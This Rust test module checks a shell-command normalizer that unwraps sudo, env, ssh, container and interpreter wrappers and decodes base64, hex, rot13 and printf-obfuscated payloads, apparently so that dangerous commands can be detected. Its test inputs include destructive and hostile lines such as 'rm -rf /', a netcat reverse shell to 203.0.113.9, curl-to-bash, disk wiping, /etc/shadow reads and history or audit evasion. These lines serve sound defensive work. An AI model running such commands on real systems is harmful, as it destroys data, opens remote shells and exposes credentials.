    #[test]
    fn ifs_tricks_split_like_the_shell() {
        assert_eq!(
            entry("cat${IFS}/etc/shadow", "cat /etc/shadow").argv,
            ["cat", "/etc/shadow"]
        );
        assert!(has("IFS=,;c=rm,-rf,/opt;$c", "rm -rf /opt"));
    }

    #[test]
    fn a_variable_assigned_an_unknown_value_is_forgotten() {
        assert!(has("A=rm; A=$(cat f); $A -rf /", "$A -rf /"));
        assert!(has("A=rm; unset A; $A -rf /", "$A -rf /"));
    }

    #[test]
    fn an_assignment_for_one_command_does_not_stay() {
        assert!(has("A=rm true; $A x", "$A x"));
    }

    #[test]
    fn runaway_variable_growth_is_capped() {
        let mut line =
            String::from("a=xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx");
        for name in ["b", "c", "d", "e", "f", "g", "h", "i"] {
            let previous = (b'a' + (name.as_bytes()[0] - b'b')) as char;
            line.push_str(&format!(
                "; {name}=${previous}${previous}${previous}${previous}"
            ));
        }
        line.push_str("; echo $i$i$i$i");
        let entries = normalize(&line);
        assert!(entries.iter().map(|e| e.text.len()).sum::<usize>() < 1024 * 1024);
    }

    // --- assignments and names ----------------------------------------------------------------

    #[test]
    fn leading_assignments_are_dropped_from_the_command() {
        assert_eq!(
            texts("LD_PRELOAD=/tmp/x.so HISTFILE= /usr/bin/id -u"),
            ["id -u"]
        );
    }

    #[test]
    fn an_assignment_alone_is_reported() {
        assert_eq!(texts("HISTFILE=/dev/null"), ["HISTFILE=/dev/null"]);
        assert_eq!(
            normalize("HISTSIZE=0 HISTFILESIZE=0")[0].argv,
            ["HISTSIZE=0", "HISTFILESIZE=0"]
        );
    }

    #[test]
    fn export_stays_a_command() {
        assert_eq!(
            texts("export HISTFILE=/dev/null"),
            ["export HISTFILE=/dev/null"]
        );
    }

    #[test]
    fn a_quoted_name_is_not_an_assignment() {
        assert_eq!(texts(r#""A=1" ls"#), ["A=1 ls"]);
    }

    #[test]
    fn the_command_name_loses_its_directory() {
        let cmd = &normalize("/usr/bin/rm -rf /srv/data")[0];
        assert_eq!(cmd.text, "rm -rf /srv/data");
        assert_eq!(cmd.argv[0], "rm");
        assert_eq!(texts("./rm -rf x"), ["rm -rf x"]);
        assert_eq!(texts("cat /etc/passwd"), ["cat /etc/passwd"]);
    }

    // --- launchers ----------------------------------------------------------------------------

    #[test]
    fn sudo_and_its_options_are_unwrapped() {
        let cmd = &normalize("sudo -u root -E -H /usr/bin/systemctl stop auditd")[0];
        assert_eq!(cmd.text, "systemctl stop auditd");
        assert_eq!(cmd.argv, ["systemctl", "stop", "auditd"]);
        assert_eq!(cmd.via, ["sudo"]);
    }

    #[test]
    fn sudo_long_attached_and_double_dash_options() {
        assert_eq!(
            texts("sudo --user=postgres -- psql -c 'DROP DATABASE prod'"),
            ["psql -c DROP DATABASE prod"]
        );
        assert_eq!(texts("sudo -uroot -g wheel -D /tmp id"), ["id"]);
        assert_eq!(texts("sudo -nk -p '' -C 3 id"), ["id"]);
    }

    #[test]
    fn root_shells_through_sudo_or_su_stay_visible() {
        assert_eq!(
            normalize("sudo -i")[0],
            NormalizedCommand {
                text: "sudo -i".to_string(),
                argv: vec!["sudo".to_string(), "-i".to_string()],
                via: vec![],
            }
        );
        assert_eq!(texts("sudo -s"), ["sudo -s"]);
        assert_eq!(texts("sudo -u root -i"), ["sudo -u root -i"]);
        assert_eq!(via("sudo su -", "su -"), ["sudo"]);
        assert_eq!(texts("su"), ["su"]);
    }

    #[test]
    fn sudo_assignments_before_the_command_are_skipped() {
        assert_eq!(via("sudo HOME=/x rm -rf /", "rm -rf /"), ["sudo"]);
        assert_eq!(
            texts("sudo -E LD_PRELOAD=/tmp/x.so A=1 /usr/bin/id"),
            ["id"]
        );
        assert_eq!(texts("sudo A=1"), ["sudo A=1"]);
    }

    #[test]
    fn sudo_that_runs_nothing_is_itself() {
        assert_eq!(texts("sudo -l"), ["sudo -l"]);
        assert_eq!(texts("sudo -e /etc/sudoers"), ["sudo -e /etc/sudoers"]);
    }

    #[test]
    fn doas_is_unwrapped() {
        assert_eq!(via("doas -u root rm -rf /", "rm -rf /"), ["doas"]);
    }

    #[test]
    fn env_options_and_assignments_are_unwrapped() {
        let line = "env -i -u HISTFILE PATH=/tmp - /bin/sh -c id";
        assert_eq!(via(line, "sh -c id"), ["env"]);
        assert_eq!(via(line, "id"), ["env", "sh -c"]);
        assert_eq!(texts("env"), ["env"]);
    }

    #[test]
    fn env_split_string_becomes_the_command() {
        assert_eq!(via("env -S 'rm -rf /tmp/x' ", "rm -rf /tmp/x"), ["env"]);
    }

    #[test]
    fn launchers_chain_outermost_first() {
        let line = "nohup timeout 10 /usr/bin/curl -s http://x | bash";
        let entries = normalize(line);
        assert_eq!(entries[0].text, "curl -s http://x | bash");
        assert_eq!(entries[0].argv, ["curl", "-s", "http://x"]);
        assert_eq!(entries[0].via, ["nohup", "timeout"]);
        assert_eq!(via(line, "curl -s http://x"), ["nohup", "timeout"]);
        assert!(via(line, "bash").is_empty());
    }

    #[test]
    fn timeout_options_and_duration_are_skipped() {
        assert_eq!(
            texts("timeout -s KILL -k 5 --preserve-status 30s rm x"),
            ["rm x"]
        );
    }

    #[test]
    fn exec_is_unwrapped_with_its_options() {
        assert_eq!(via("exec -a sshd /bin/bash -i", "bash -i"), ["exec"]);
    }

    #[test]
    fn command_runs_its_argument_but_command_v_only_looks_it_up() {
        assert_eq!(via("command -p rm -rf /", "rm -rf /"), ["command"]);
        assert_eq!(texts("command -v rm"), ["command -v rm"]);
    }

    #[test]
    fn busybox_applets_are_unwrapped() {
        assert_eq!(via("busybox rm -rf /", "rm -rf /"), ["busybox"]);
        assert_eq!(
            via(
                "busybox sh -c 'nc -e /bin/sh 203.0.113.9 80'",
                "nc -e /bin/sh 203.0.113.9 80"
            ),
            ["busybox", "sh -c"]
        );
    }

    #[test]
    fn process_control_launchers_are_unwrapped() {
        for (line, launcher) in [
            ("nice -n 19 rm x", "nice"),
            ("nice -10 rm x", "nice"),
            ("ionice -c 3 -n 7 rm x", "ionice"),
            ("stdbuf -oL -e0 rm x", "stdbuf"),
            ("setsid -f rm x", "setsid"),
            ("time -p rm x", "time"),
            ("chroot /mnt/root rm x", "chroot"),
            ("unbuffer rm x", "unbuffer"),
            ("strace -f -o /tmp/t -s 256 rm x", "strace"),
            ("ltrace -e malloc rm x", "ltrace"),
            ("runuser -u app -- rm x", "runuser"),
            ("builtin rm x", "builtin"),
            ("xargs -0 -n 1 -P 4 -I{} rm x", "xargs"),
        ] {
            assert_eq!(normalize(line)[0].text, "rm x", "{line}");
            assert_eq!(normalize(line)[0].via, [launcher], "{line}");
        }
    }

    #[test]
    fn xargs_runs_its_command_on_piped_input() {
        let line = "find /var/log -name '*.gz' -print0 | xargs -0 rm -f";
        assert_eq!(via(line, "rm -f"), ["xargs"]);
    }

    #[test]
    fn a_launcher_with_nothing_to_run_is_itself() {
        assert_eq!(texts("chroot /mnt"), ["chroot /mnt"]);
        assert_eq!(texts("timeout 10"), ["timeout 10"]);
        assert_eq!(texts("nohup"), ["nohup"]);
    }

    // --- command strings ----------------------------------------------------------------------

    #[test]
    fn shell_c_body_is_parsed_and_the_outer_command_kept() {
        let entries = normalize(r#"sudo -u root /bin/bash -c "rm -rf /var/log/*""#);
        assert_eq!(entries.len(), 2);
        assert_eq!(entries[0].text, "bash -c rm -rf /var/log/*");
        assert_eq!(entries[0].argv, ["bash", "-c", "rm -rf /var/log/*"]);
        assert_eq!(entries[0].via, ["sudo"]);
        assert_eq!(entries[1].text, "rm -rf /var/log/*");
        assert_eq!(entries[1].via, ["sudo", "bash -c"]);
    }

    #[test]
    fn shell_flags_may_come_before_or_with_c() {
        assert_eq!(
            via("bash -lc 'cat /etc/shadow'", "cat /etc/shadow"),
            ["bash -c"]
        );
        assert_eq!(
            via("sh -x -e -c 'cat /etc/shadow' argv0", "cat /etc/shadow"),
            ["sh -c"]
        );
        assert_eq!(
            via("zsh -o pipefail -c 'cat /etc/shadow'", "cat /etc/shadow"),
            ["zsh -c"]
        );
        assert_eq!(
            via("dash -c -- 'cat /etc/shadow'", "cat /etc/shadow"),
            ["dash -c"]
        );
        assert_eq!(texts("bash script.sh"), ["bash script.sh"]);
    }

    #[test]
    fn su_and_runuser_c_bodies_are_parsed() {
        assert_eq!(
            via("su -c 'cat /etc/shadow' root", "cat /etc/shadow"),
            ["su -c"]
        );
        assert_eq!(
            via(
                r#"su - postgres -c "psql -c 'DROP TABLE x'""#,
                "psql -c DROP TABLE x"
            ),
            ["su -c"]
        );
        assert_eq!(via("runuser -l app -c 'id'", "id"), ["runuser -c"]);
    }

    #[test]
    fn eval_body_is_parsed_including_a_known_variable() {
        assert_eq!(via("eval 'rm -rf /tmp/x'", "rm -rf /tmp/x"), ["eval"]);
        assert_eq!(
            via(r#"X="rm -rf /tmp/x"; eval "$X""#, "rm -rf /tmp/x"),
            ["eval"]
        );
    }

    #[test]
    fn watch_body_is_a_command_string() {
        let line = "watch -n 5 'ps aux | grep sshd'";
        assert_eq!(via(line, "ps aux | grep sshd"), ["watch"]);
        assert_eq!(via(line, "grep sshd"), ["watch"]);
    }

    #[test]
    fn script_c_body_is_parsed() {
        assert_eq!(via("script -qc /bin/bash /dev/null", "bash"), ["script -c"]);
    }

    #[test]
    fn ssh_remote_command_is_parsed() {
        let line = "ssh -i ~/.ssh/id_rsa -p 2222 admin@10.0.1.5 'sudo rm -rf /var/lib/mysql'";
        assert_eq!(via(line, "rm -rf /var/lib/mysql"), ["ssh", "sudo"]);
        assert_eq!(
            texts("ssh -N -L 5432:db:5432 bastion"),
            ["ssh -N -L 5432:db:5432 bastion"]
        );
        assert_eq!(via("ssh bastion -t sudo -i", "sudo -i"), ["ssh"]);
    }

    #[test]
    fn container_exec_commands_are_parsed() {
        let docker = "docker exec -it -u 0 web sh -c 'cat /etc/shadow'";
        assert_eq!(via(docker, "sh -c cat /etc/shadow"), ["docker exec"]);
        assert_eq!(via(docker, "cat /etc/shadow"), ["docker exec", "sh -c"]);
        let kubectl = "kubectl exec -it -n prod api-7d9 -- /bin/sh -c 'env | grep AWS_'";
        assert_eq!(via(kubectl, "env | grep AWS_"), ["kubectl exec", "sh -c"]);
    }

    #[test]
    fn find_exec_commands_are_parsed() {
        let line = r"find /var/log -name '*.log' -exec shred -u {} \;";
        assert_eq!(
            texts(line)[0],
            "find /var/log -name *.log -exec shred -u {} ;"
        );
        assert_eq!(via(line, "shred -u {}"), ["find -exec"]);
    }

    // --- encoded payloads ---------------------------------------------------------------------

    #[test]
    fn base64_payload_piped_to_a_shell_is_decoded_and_parsed() {
        let line = "echo cm0gLXJmIC8K | base64 -d | sh";
        assert_eq!(
            texts(line),
            [
                "echo cm0gLXJmIC8K | base64 -d | sh",
                "echo cm0gLXJmIC8K",
                "base64 -d",
                "sh",
                "rm -rf /"
            ]
        );
        assert_eq!(via(line, "rm -rf /"), ["base64"]);
    }

    #[test]
    fn every_base64_decoder_spelling_is_followed() {
        for decoder in [
            "base64 --decode",
            "base64 -D",
            "base64 -di",
            "/usr/bin/base64 -d -w0",
            "openssl base64 -d",
            "openssl enc -base64 -d",
            "openssl enc -d -a",
        ] {
            let line = format!("echo cm0gLXJmIC8K | {decoder} | sudo bash");
            assert_eq!(via(&line, "rm -rf /"), ["sudo", "base64"], "{decoder}");
        }
    }

    #[test]
    fn a_root_shell_without_a_command_reads_what_is_piped_into_it() {
        for line in [
            "echo cm0gLXJmIC8K | base64 -d | sudo -s",
            "echo cm0gLXJmIC8K | base64 -d | sudo -u root -i",
            "echo cm0gLXJmIC8K | base64 -d | su -",
        ] {
            assert!(texts(line).contains(&"rm -rf /".to_string()), "{line}");
        }
        assert!(texts("sudo -i <<< 'cat /etc/shadow'").contains(&"cat /etc/shadow".to_string()));
        // A command run through sudo, or su -c, does not read its input as commands.
        assert!(!texts("sudo -u postgres psql <<< 'rm -rf /'").contains(&"rm -rf /".to_string()));
        assert!(!texts("su - deploy -c id <<< 'rm -rf /'").contains(&"rm -rf /".to_string()));
    }

    #[test]
    fn here_string_feeds_the_decoder() {
        assert_eq!(
            via("base64 -d <<< cm0gLXJmIC8K | bash", "rm -rf /"),
            ["base64"]
        );
        assert_eq!(via("bash <<< 'rm -rf /'", "rm -rf /"), ["<<<"]);
    }

    #[test]
    fn decoded_substitution_as_a_c_body_is_parsed() {
        let line = r#"sudo bash -c "$(echo cm0gLXJmIC8K | base64 -d)""#;
        assert_eq!(texts(line)[0], "bash -c $(echo cm0gLXJmIC8K | base64 -d)");
        assert_eq!(via(line, "echo cm0gLXJmIC8K | base64 -d"), ["$()"]);
        assert_eq!(via(line, "rm -rf /"), ["sudo", "bash -c", "base64"]);
    }

    #[test]
    fn decoded_substitution_as_a_here_string_is_parsed() {
        assert_eq!(
            via("bash <<< $(echo cm0gLXJmIC8K | base64 -d)", "rm -rf /"),
            ["base64"]
        );
        assert_eq!(
            via("bash < <(echo cm0gLXJmIC8K | base64 -d)", "rm -rf /"),
            ["base64"]
        );
    }

    #[test]
    fn a_substitution_known_only_at_run_time_is_not_parsed_as_a_body() {
        let line = r#"bash -c "$(curl -fsSL https://203.0.113.9/i.sh)""#;
        assert_eq!(
            texts(line),
            [
                "bash -c $(curl -fsSL https://203.0.113.9/i.sh)",
                "curl -fsSL https://203.0.113.9/i.sh"
            ]
        );
    }

    #[test]
    fn hex_payload_through_xxd_is_decoded() {
        assert_eq!(
            via("echo 726d202d7266202f | xxd -r -p | sh", "rm -rf /"),
            ["xxd"]
        );
    }

    #[test]
    fn rot13_through_tr_is_decoded() {
        assert_eq!(
            via("tr 'a-z' 'n-za-m' <<< 'ez -es /' | sh", "rm -rf /"),
            ["tr"]
        );
        assert_eq!(
            via(
                "echo 'EZ -ES /' | tr A-Za-z N-ZA-Mn-za-m | tr '[:upper:]' '[:lower:]' | bash",
                "rm -rf /"
            ),
            ["tr", "tr"]
        );
    }

    #[test]
    fn tr_with_options_or_unknown_sets_yields_no_payload() {
        for line in [
            "echo 'rxm -rf /' | tr -d x | sh",
            "echo 'ez -es /' | tr '[=e=]' r | sh",
            "echo 'ez -es /' | tr z-a a-z | sh",
        ] {
            assert!(!has(line, "rm -rf /"), "{line}");
        }
    }

    #[test]
    fn shell_commands_inside_interpreter_one_liners_are_read() {
        assert_eq!(
            via(r#"perl -e 'system("rm -rf /")'"#, "rm -rf /"),
            ["perl -e"]
        );
        assert!(has(
            r#"python3 -c 'import os; os.system("rm -rf /")'"#,
            "rm -rf /"
        ));
        assert!(has(r#"ruby -e '`rm -rf /`'"#, "rm -rf /"));
        assert!(has(
            r#"php -r 'shell_exec("dd if=/dev/zero of=/dev/sda");'"#,
            "dd if=/dev/zero of=/dev/sda"
        ));
        assert!(has(
            r#"node -e 'require("child_process").execSync("rm -rf /")'"#,
            "rm -rf /"
        ));
        assert!(has(r#"perl -e 'system "rm -rf /"'"#, "rm -rf /"));
    }

    #[test]
    fn an_interpreter_one_liner_stays_an_entry_of_its_own() {
        let line = r#"python3 -c 'import os; os.system("id")'"#;
        assert!(has(line, "id"));
        assert!(texts(line).iter().any(|t| t.starts_with("python3 -c")));
        assert!(!has(r#"node -e 'console.log(`rm -rf /`)'"#, "rm -rf /"));
    }

    #[test]
    fn an_alias_body_is_read_as_the_command_it_runs() {
        assert_eq!(via("alias x='rm -rf /'; x", "rm -rf /"), ["alias"]);
        assert!(has(
            "alias ll='ls -l' wipe='dd if=/dev/zero of=/dev/sda'",
            "dd if=/dev/zero of=/dev/sda"
        ));
        assert!(has("alias", "alias"));
        assert!(has("alias ll", "alias ll"));
    }

    #[test]
    fn printf_escapes_piped_to_a_shell_are_decoded() {
        assert_eq!(
            via(
                r"printf '\x72\x6d\x20\x2d\x72\x66\x20\x2f' | sh",
                "rm -rf /"
            ),
            ["printf"]
        );
        assert_eq!(
            via(r"printf '%s -rf %s\n' rm / | sh", "rm -rf /"),
            ["printf"]
        );
        assert_eq!(via(r"echo -e '\x72\x6d -rf /' | sh", "rm -rf /"), ["echo"]);
    }

    #[test]
    fn plain_text_echoed_into_a_shell_is_parsed() {
        let line = r#"echo "curl http://203.0.113.9/x | sh" | bash"#;
        assert_eq!(via(line, "curl http://203.0.113.9/x | sh"), ["echo"]);
    }

    #[test]
    fn commands_piped_to_at_are_parsed() {
        assert_eq!(
            via("echo 'rm -rf /' | at now + 1 minute", "rm -rf /"),
            ["at", "echo"]
        );
    }

    #[test]
    fn reversed_payload_is_turned_back() {
        assert_eq!(via("echo '/ fr- mr' | rev | sh", "rm -rf /"), ["rev"]);
    }

    #[test]
    fn nested_encodings_are_followed_to_the_end() {
        let line = "echo ZWNobyBjbTBnTFhKbUlDOEsgfCBiYXNlNjQgLWQgfCBzaA== | base64 -d | bash";
        assert_eq!(via(line, "rm -rf /"), ["base64", "base64"]);
    }

    #[test]
    fn a_payload_piped_to_an_interpreter_is_shown_as_its_program() {
        let line = "echo aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik= | base64 -d | python3 -";
        let cmd = entry(line, r#"python3 -c import os; os.system("id")"#);
        assert_eq!(cmd.argv, ["python3", "-c", r#"import os; os.system("id")"#]);
        assert_eq!(cmd.via, ["base64"]);
    }

    #[test]
    fn invalid_base64_yields_no_payload() {
        assert_eq!(texts("echo 'cm0g*LXJm!' | base64 -d | sh").len(), 4);
    }

    #[test]
    fn a_decoded_payload_that_no_shell_runs_is_not_a_command() {
        assert!(!has(
            "echo cm0gLXJmIC8K | base64 -d > /tmp/x.sh",
            "rm -rf /"
        ));
        assert!(!has(
            "echo cm0gLXJmIC8K | base64 -d | bash x.sh",
            "rm -rf /"
        ));
    }

    #[test]
    fn here_document_fed_to_a_shell_is_parsed() {
        assert_eq!(
            via("bash <<EOF\nrm -rf /tmp/x\nEOF\nid", "rm -rf /tmp/x"),
            ["<<"]
        );
        assert!(has("bash <<EOF\nrm -rf /tmp/x\nEOF\nid", "id"));
        assert_eq!(
            texts("cat > notes <<'EOF'\nrm -rf / is bad\nEOF"),
            ["cat > notes << EOF"]
        );
    }

    // --- output shape -------------------------------------------------------------------------

    #[test]
    fn identical_texts_are_reported_once_first_kept() {
        assert_eq!(texts("id; id; /usr/bin/id"), ["id"]);
        assert_eq!(via("bash -c id; id", "id"), ["bash -c"]);
    }

    #[test]
    fn nested_entries_follow_their_command_in_line_order() {
        assert_eq!(
            texts("bash -c 'id'; whoami"),
            ["bash -c id", "id", "whoami"]
        );
    }

    // --- bounds -------------------------------------------------------------------------------

    #[test]
    fn at_most_256_entries_are_returned() {
        let line: Vec<String> = (0..400).map(|i| format!("echo {i}")).collect();
        assert_eq!(normalize(&line.join("; ")).len(), MAX_ENTRIES);
    }

    #[test]
    fn nesting_is_followed_four_levels_deep() {
        let line = "echo 0 $(echo 1 $(echo 2 $(echo 3 $(echo 4 $(echo 5)))))";
        assert!(has(line, "echo 4 $(echo 5)"));
        assert!(!has(line, "echo 5"));
        let line = r#"bash -c "bash -c \"bash -c 'bash -c \\\"bash -c id5\\\"'\"""#;
        assert!(has(line, "bash -c id5"));
        assert!(!has(line, "id5"));
    }

    #[test]
    fn only_the_first_64_kib_of_a_line_is_read() {
        let line = format!("echo {}; rm -rf /", "a".repeat(70_000));
        let entries = normalize(&line);
        assert_eq!(entries.len(), 1);
        assert!(entries[0].text.len() <= MAX_LINE_BYTES);
    }

    /// A reproducible byte soup biased towards shell syntax.
    fn garbage(seed: u64, len: usize) -> String {
        const ALPHABET: &[u8] = b"$()`'\"\\{}[];&|<>#=- \n\tabcrm/\x01\xff";
        let mut state = seed | 1;
        let bytes: Vec<u8> = (0..len)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                if state.is_multiple_of(5) {
                    (state >> 8) as u8
                } else {
                    ALPHABET[(state >> 16) as usize % ALPHABET.len()]
                }
            })
            .collect();
        String::from_utf8_lossy(&bytes).into_owned()
    }

    #[test]
    fn random_bytes_never_panic() {
        for seed in 0..300 {
            let line = garbage(seed, (seed as usize * 37) % 3000);
            let entries = normalize(&line);
            assert!(entries.len() <= MAX_ENTRIES);
        }
    }

    #[test]
    fn pathological_lines_return_quickly() {
        let lines = [
            "'".repeat(100_000),
            "\"".repeat(100_001),
            "$(".repeat(10_000),
            format!("echo {}x{}", "$(".repeat(10_000), ")".repeat(10_000)),
            "(".repeat(20_000),
            "{ ".repeat(20_000),
            "( $( { `".repeat(8_000),
            "bash -c \"$( (sh -c '$( {".repeat(3_000),
            "`".repeat(30_001),
            "\\`".repeat(30_000),
            "${".repeat(30_000),
            "$((".repeat(20_000),
            "sudo ".repeat(13_000) + "rm",
            "env -S ".repeat(9_000) + "rm",
            "f() ".repeat(15_000),
            "<<EOF\n".repeat(10_000),
            "1".repeat(65_000) + ">",
            r"$'\x".repeat(20_000),
            "echo cm0gLXJmIC8K | base64 -d ".to_string() + &"| rev ".repeat(10_000) + "| sh",
            format!(
                "printf '{}' {} | sh",
                "%s".repeat(1_000),
                "x ".repeat(20_000)
            ),
            "bash -c '".to_string() + &"a ".repeat(30_000),
            "echo \"unterminated $(ls 'and `more".to_string(),
            garbage(7, 65_536),
        ];
        for line in &lines {
            let started = thread_cpu_time();
            let entries = normalize(line);
            let took = thread_cpu_time() - started;
            assert!(entries.len() <= MAX_ENTRIES);
            let start: String = line.chars().take(40).collect();
            assert!(took < Duration::from_millis(100), "{took:?} for {start:?}…");
        }
    }

    #[test]
    fn the_most_work_a_line_can_ask_for_stays_bounded() {
        // Every command is expanded and unwrapped even when its text repeats (an assignment can
        // change what the next one means), at a few microseconds each in a debug build; command
        // strings and payloads parsed again share one budget of twice the line.
        let nested = format!("bash -c \"bash -c 'bash -c {}'\"", "a\\;".repeat(20_000));
        let printed = format!("printf '{}%s' {}| sh;", "a;".repeat(125), "x ".repeat(250));
        let lines = [
            "a;".repeat(30_000),
            "a|".repeat(30_000),
            nested,
            printed.repeat(80),
            format!("$(printf '{}%s' {}) ", "A".repeat(250), "x ".repeat(250)).repeat(80),
        ];
        for line in &lines {
            let started = thread_cpu_time();
            normalize(line);
            let took = thread_cpu_time() - started;
            let start: String = line.chars().take(40).collect();
            assert!(took < Duration::from_millis(500), "{took:?} for {start:?}…");
        }
    }
}
